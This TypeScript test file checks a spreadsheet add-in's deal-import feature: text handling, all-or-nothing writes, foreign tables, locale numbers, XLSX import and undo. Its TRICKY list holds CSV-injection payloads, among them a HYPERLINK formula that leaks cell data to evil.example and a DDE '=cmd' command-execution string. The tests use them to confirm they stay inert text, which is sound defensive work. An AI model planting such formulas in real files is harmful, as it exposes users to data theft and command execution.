/**
 * Issue 13 on the stand-in: text stays text per cell whatever the target cell's format, nothing
 * is written when a check fails (cells counted before and after), foreign tables are refused,
 * spreadsheet cells and other locales import with the right numbers.
 */
import { createStandIn } from "../../preview/excel";
import { setUpWorkbook } from "../../src/workbook/setup";
import { importRecords, ImportError } from "../../src/workbook/import";
import { readSheet } from "../../src/workbook/import/sheetSource";
import { undoAdded } from "../../src/workbook/import/undo";
import { DEALS } from "../../src/model/schema";
import { readXlsx } from "../../src/engine/xlsx/read";
import { toSerial } from "../../src/engine/dates";
import { writeXlsx } from "../support/xlsxWriter";
import { HUBSPOT_DEALS } from "../fixtures/crmLayouts";

type StandIn = ReturnType<typeof createStandIn>;

async function freshWorkbook(sampleData = false): Promise<StandIn> {
  const standIn = createStandIn({ excelApi: "1.17" });
  standIn.install(globalThis);
  await setUpWorkbook({ stagePreset: "salesforce", language: "en", sampleData } as never);
  standIn.resetCounters();
  return standIn;
}

const letter = (name: string): string =>
  String.fromCharCode(65 + DEALS.columns.findIndex((c) => c.name === name));

/** Every cell of a sheet as the snapshot has it (value, formula, format). */
function cells(standIn: StandIn, sheet: string): Record<string, unknown> {
  return standIn.snapshot().sheets.find((s) => s.name === sheet)!.cells;
}

function dealRows(standIn: StandIn): Record<string, unknown>[] {
  const t = standIn
    .snapshot()
    .sheets.flatMap((s) => s.tables)
    .find((x) => x.name === "Deals")!;
  const values = standIn.getValues("Deals", t.address.split("!").pop()!.replace(/\$/g, ""));
  const headers = (values[0] as unknown[]).map(String);
  return values.slice(1).map((r) => Object.fromEntries(headers.map((h, i) => [h, r[i]])));
}

async function expectNothingWritten(
  standIn: StandIn,
  run: () => Promise<unknown>,
  code: string
): Promise<ImportError> {
  const before = JSON.stringify(cells(standIn, "Deals"));
  const count = Object.keys(cells(standIn, "Deals")).length;
  const error = await run().then(
    () => null,
    (e: unknown) => e
  );
  expect(error).toBeInstanceOf(ImportError);
  expect((error as ImportError).code).toBe(code);
  expect(Object.keys(cells(standIn, "Deals"))).toHaveLength(count);
  expect(JSON.stringify(cells(standIn, "Deals"))).toBe(before);
  return error as ImportError;
}

const TRICKY = [
  '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
  "=cmd|' /C calc'!A0",
  "-5 discount deal",
  "00123",
  "1/2",
  "Mar 5",
  "12:30 PM",
  "$100",
  "1e5",
  "TRUE",
  "#N/A",
  "\uff1dSUM(A1)",
  "\u3000=1+1",
  "\u200b@SUM(A1)",
];

describe("text stays text per cell, whatever the target cells' formats", () => {
  it.each([
    ["the first cell Text, the rest General", (r: number) => (r === 2 ? "@" : "General")],
    ["the first cell General, the rest Text", (r: number) => (r === 2 ? "General" : "@")],
  ])("%s", async (_, formatOf) => {
    const standIn = await freshWorkbook();
    const name = letter("Deal Name");
    const id = letter("Deal ID");
    // A first import creates the rows; then the user reformats the Deal Name and Deal ID cells.
    const lines = TRICKY.map((t, i) => `D${i + 1},"${t.replace(/"/g, '""')}",${i * 10}`);
    const text = `Deal ID,Deal Name,Amount\n${lines.join("\n")}\n`;
    await importRecords({ target: "Deals", text });
    for (let r = 2; r < 2 + TRICKY.length; r++) {
      standIn.setNumberFormat("Deals", `${name}${r}:${name}${r}`, [[formatOf(r)]]);
      standIn.setNumberFormat("Deals", `${id}${r}:${id}${r}`, [[formatOf(r)]]);
    }
    // Re-import (updates) and import new IDs that look like numbers (appends).
    const again = `Deal ID,Deal Name,Amount\n${lines.join("\n")}\n00999,"${TRICKY[3]}",7\n`;
    const report = await importRecords({ target: "Deals", text: again });
    expect(report).toMatchObject({ updated: TRICKY.length, added: 1, skipped: [] });
    const rows = dealRows(standIn);
    expect(rows.map((r) => r["Deal Name"])).toEqual([...TRICKY, "00123"]);
    expect(rows.map((r) => r["Deal ID"]).slice(-1)).toEqual(["00999"]);
    expect(rows.map((r) => r.Amount)).toEqual([...TRICKY.map((_, i) => i * 10), 7]);
    const sheet = cells(standIn, "Deals") as Record<string, { formula?: string; value?: unknown }>;
    for (let r = 2; r < 3 + TRICKY.length; r++) {
      expect(sheet[`${name}${r}`].formula).toBeUndefined();
      expect(String(sheet[`${name}${r}`].value).startsWith("'")).toBe(false);
    }
  });
});

describe("nothing is written when the plan cannot be carried out", () => {
  it("refuses a 10 MB field, naming its line and column", async () => {
    const standIn = await freshWorkbook(true);
    const text = `Deal ID,Deal Name,Next Step\nD1,Alpha,ok\nD2,Beta,"${"x".repeat(10 * 1024 * 1024)}"\nD3,Gamma,ok\n`;
    const e = await expectNothingWritten(
      standIn,
      () => importRecords({ target: "Deals", text }),
      "cellTooLong"
    );
    expect(e.details[0]).toMatchObject({ line: 3, column: "Next Step", count: 10 * 1024 * 1024 });
    expect(standIn.requests().every((r) => r.operations === 0 || r.bytes < 100_000)).toBe(true);
  });

  it("cuts such a field to 32,767 characters when the user agrees", async () => {
    const standIn = await freshWorkbook();
    const text = `Deal ID,Deal Name,Next Step\nD1,Alpha,"${"y".repeat(40_000)}"\n`;
    const report = await importRecords({ target: "Deals", text, truncateLongText: true });
    expect(report.truncated).toEqual([{ line: 2, column: "Next Step" }]);
    expect(String(dealRows(standIn)[0]["Next Step"])).toHaveLength(32767);
  });

  it("never writes into a foreign Deals table, and says how to get out", async () => {
    const standIn = createStandIn({ excelApi: "1.17" });
    standIn.install(globalThis);
    await Excel.run(async (context) => {
      const ws = context.workbook.worksheets.add("Deals");
      ws.getRange("A1:C3").values = [
        ["Deal ID", "Client", "My notes"],
        ["X1", "Mine", 42],
        ["X2", "Also mine", 7],
      ];
      context.workbook.tables.add("Deals!A1:C3", true).name = "Deals";
      await context.sync();
    });
    const text = "Deal ID,Deal Name,Amount\nD1,Alpha,100\nD2,Beta,200\n";
    const e = await expectNothingWritten(
      standIn,
      () => importRecords({ target: "Deals", text }),
      "foreignTable"
    );
    expect(e.message).toMatch(/Deals table .*rename it/);
    expect(standIn.getValues("Deals", "C2:C3")).toEqual([[42], [7]]);
  });

  it("refuses rows that would run past the sheet's last row", async () => {
    const standIn = createStandIn({ excelApi: "1.17" });
    standIn.install(globalThis);
    const names = DEALS.columns.map((c) => c.name);
    await Excel.run(async (context) => {
      const ws = context.workbook.worksheets.add("Deals");
      const top = 1048573;
      const last = String.fromCharCode(64 + names.length);
      ws.getRange(`A${top}:${last}${top + 1}`).values = [
        names,
        names.map((n, i) => (i ? "" : "D0")),
      ];
      context.workbook.tables.add(`Deals!A${top}:${last}${top + 1}`, true).name = "Deals";
      await context.sync();
    });
    const text = `Deal ID,Deal Name\n${[1, 2, 3, 4].map((i) => `D${i},n${i}`).join("\n")}\n`;
    const e = await expectNothingWritten(
      standIn,
      () => importRecords({ target: "Deals", text }),
      "sheetFull"
    );
    expect(e.details[0].count).toBe(2); // rows 1048575–1048578: two past the last row
  });

  it("asks for the decimal mark of a German file before writing anything", async () => {
    const standIn = await freshWorkbook();
    const text = "Deal ID;Deal Name;Amount\nD1;Alpha;5.000\nD2;Beta;12.500\n";
    await expectNothingWritten(
      standIn,
      () => importRecords({ target: "Deals", text }),
      "needsNumberFormat"
    );
    await importRecords({ target: "Deals", text, numberMarks: { Amount: "," } });
    expect(dealRows(standIn).map((r) => r.Amount)).toEqual([5000, 12500]);
  });
});

describe("import from a sheet of this workbook", () => {
  it("reads typed cells (numbers, date serials) and imports them without any locale guess", async () => {
    const standIn = await freshWorkbook();
    standIn.setValues("Sheet1", "A1:E4", [
      ["Deal ID", "Deal Name", "Amount", "Close Date", "Stage"],
      ["101", "Alpha", 5.125, 45352, "Closed Won"],
      ["102", "00123", 12500, 45473, "Prospecting"], // the sheet itself reads 00123 as 123
      ["", "", "", "", ""],
    ]);
    standIn.setNumberFormat("Sheet1", "D2:D3", [["yyyy-mm-dd"], ["yyyy-mm-dd"]]);
    const grid = await readSheet("Sheet1");
    expect(grid.lines).toEqual([2, 3]);
    const report = await importRecords({ target: "Deals", grid });
    expect(report).toMatchObject({ added: 2, skipped: [] });
    const rows = dealRows(standIn);
    expect(rows.map((r) => r.Amount)).toEqual([5.125, 12500]);
    expect(rows.map((r) => r["Expected Close"])).toEqual([45352, 45473]);
    expect(rows.map((r) => r["Closed Date"])).toEqual([45352, ""]);
    expect(rows.map((r) => r["Deal Name"])).toEqual(["Alpha", "123"]);
  });
});

describe("import of an XLSX export", () => {
  it("writes a HubSpot XLSX into a workbook set up with Salesforce stages: numbers and dates typed", async () => {
    const standIn = await freshWorkbook();
    const close = toSerial(2024, 3, 1, 14, 30, 0);
    const bytes = writeXlsx([
      {
        name: "deals",
        rows: [
          HUBSPOT_DEALS.slice(0, 7),
          ["9001", "Alpha", "closedwon", { date: close }, "Sara", 5.125, "Sales Pipeline"],
          ["9002", "00123", "contractsent", { date: close + 30 }, "Omar", 12500, "Sales Pipeline"],
        ],
      },
    ]);
    const r = readXlsx(bytes);
    if (!r.ok) throw new Error("not read");
    const report = await importRecords({ target: "Deals", grid: r.book.grid });
    expect(report).toMatchObject({ added: 2, skipped: [], source: "hubspotDeals" });
    const rows = dealRows(standIn);
    expect(rows.map((x) => x.Amount)).toEqual([5.125, 12500]);
    expect(rows.map((x) => x["Deal Name"])).toEqual(["Alpha", "00123"]);
    expect(rows.map((x) => x.Stage)).toEqual(["Closed Won", "Contract Sent"]);
    expect(rows.map((x) => x["Expected Close"])).toEqual([
      Math.floor(close),
      Math.floor(close) + 30,
    ]);
    expect(rows.map((x) => x["Closed Date"])).toEqual([Math.floor(close), ""]);
  });
});

describe("undo of the rows an import added", () => {
  it("removes exactly those rows, and refuses when the table changed since", async () => {
    const standIn = await freshWorkbook();
    await importRecords({
      target: "Deals",
      text: "Deal ID,Deal Name,Amount\nA1,Kept,1\nA2,Kept too,2\n",
    });
    const before = dealRows(standIn);
    const report = await importRecords({
      target: "Deals",
      text: "Deal ID,Deal Name,Amount\nB1,New,10\nB2,New,20\nB3,New,30\n",
    });
    expect(report.added).toBe(3);
    const rows = {
      target: "Deals" as const,
      startRow: 2,
      count: 3,
      tableRows: 5,
      ids: ["B1", "B2", "B3"],
    };
    await expect(undoAdded({ ...rows, ids: ["B1", "X", "B3"] })).rejects.toMatchObject({
      code: "tableChanged",
    });
    await expect(undoAdded({ ...rows, tableRows: 6 })).rejects.toMatchObject({
      code: "tableChanged",
    });
    expect(await undoAdded(rows)).toBe(3);
    expect(dealRows(standIn)).toEqual(before);
    const t = standIn
      .snapshot()
      .sheets.flatMap((s) => s.tables)
      .find((x) => x.name === "Deals")!;
    expect(t.rows).toBe(2);
    const id = letter("Deal ID");
    expect(standIn.getValues("Deals", `${id}4:${id}6`)).toEqual([[""], [""], [""]]);
  });
  /** Imports A1–A2, then B1–B3 (as an interrupted import would have added them). */
  async function importedTwice(standIn: StandIn) {
    await importRecords({
      target: "Deals",
      text: "Deal ID,Deal Name,Amount\nA1,Kept,1\nA2,Kept too,2\n",
    });
    const kept = dealRows(standIn);
    await importRecords({
      target: "Deals",
      text: "Deal ID,Deal Name,Amount\nB1,New,10\nB2,New,20\nB3,New,30\n",
    });
    const added = ["B1", "B2", "B3"];
    const rows = {
      target: "Deals" as const,
      startRow: kept.length,
      count: added.length,
      tableRows: kept.length + added.length,
      ids: added,
    };
    return { kept, rows };
  }

  const dealsTable = (standIn: StandIn) =>
    standIn
      .snapshot()
      .sheets.flatMap((s) => s.tables)
      .find((x) => x.name === "Deals")!;

  it("refuses a filtered table before writing anything, naming it; works once it is cleared", async () => {
    const standIn = await freshWorkbook();
    const { kept, rows } = await importedTwice(standIn);
    await Excel.run(async (context) => {
      const t = context.workbook.tables.getItem("Deals");
      t.columns.getItem("Amount").filter.applyCustomFilter(">=10");
      await context.sync();
    });
    const all = dealRows(standIn);
    const cellsBefore = cells(standIn, "Deals");
    await expect(undoAdded(rows)).rejects.toMatchObject({
      code: "tableFiltered",
      problems: [{ code: "tableFiltered", params: { table: "Deals" } }],
    });
    expect(dealRows(standIn)).toEqual(all);
    expect(cells(standIn, "Deals")).toEqual(cellsBefore);
    expect(dealsTable(standIn).rows).toBe(rows.tableRows);
    const still = await Excel.run(async (context) => {
      const f = context.workbook.tables.getItem("Deals").autoFilter.load("isDataFiltered");
      await context.sync();
      return f.isDataFiltered;
    });
    expect(still).toBe(true);
    await Excel.run(async (context) => {
      context.workbook.tables.getItem("Deals").clearFilters();
      await context.sync();
    });
    expect(await undoAdded(rows)).toBe(rows.count);
    expect(dealRows(standIn)).toEqual(kept);
  });

  it("reads the row count back: rows Excel kept are reported, not counted as removed", async () => {
    const standIn = await freshWorkbook();
    const { rows } = await importedTwice(standIn);
    // A host that ignores the shrink (as Excel ignores row deletions in a filtered table where
    // the add-in cannot see the filter): the table keeps its rows.
    const resize = jest.spyOn(standIn.model, "resizeTable").mockImplementation(() => undefined);
    try {
      await expect(undoAdded(rows)).rejects.toMatchObject({
        code: "tableFiltered",
        problems: [{ params: { table: "Deals", count: rows.count } }],
      });
    } finally {
      resize.mockRestore();
    }
    expect(dealsTable(standIn).rows).toBe(rows.tableRows);
  });

  it("on a host without Table.resize (ExcelApi 1.8–1.12) deletes the added rows instead", async () => {
    const standIn = createStandIn({ excelApi: "1.8" });
    standIn.install(globalThis);
    await setUpWorkbook({ stagePreset: "salesforce", language: "en", sampleData: false } as never);
    const { kept, rows } = await importedTwice(standIn);
    // A user's note below the table, pushed down by the import's rows.add.
    const below = `A${dealsTable(standIn).rows + 3}`;
    standIn.setValues("Deals", below, [["my note"]]);
    const resize = jest.spyOn(standIn.model, "resizeTable");
    try {
      expect(await undoAdded(rows)).toBe(rows.count);
      expect(resize).not.toHaveBeenCalled();
    } finally {
      resize.mockRestore();
    }
    expect(dealRows(standIn)).toEqual(kept);
    expect(dealsTable(standIn).rows).toBe(kept.length);
    // The note moved up with the deleted rows, and is intact.
    const up = `A${dealsTable(standIn).rows + 3}`;
    expect(standIn.getValue("Deals", up)).toBe("my note");
  });

  it("undoing a new table's only rows leaves one empty row, on either kind of host", async () => {
    for (const excelApi of ["1.8", "1.17"]) {
      const standIn = createStandIn({ excelApi });
      standIn.install(globalThis);
      await setUpWorkbook({
        stagePreset: "salesforce",
        language: "en",
        sampleData: false,
      } as never);
      await importRecords({
        target: "Deals",
        text: "Deal ID,Deal Name,Amount\nB1,New,10\nB2,New,20\n",
      });
      const rows = {
        target: "Deals" as const,
        startRow: 0,
        count: 2,
        tableRows: 2,
        ids: ["B1", "B2"],
      };
      expect(await undoAdded(rows)).toBe(2);
      expect(dealsTable(standIn).rows).toBe(1);
      expect(dealRows(standIn)[0]["Deal ID"] ?? "").toBe("");
      expect(dealRows(standIn)[0]["Deal Name"] ?? "").toBe("");
    }
  });
});
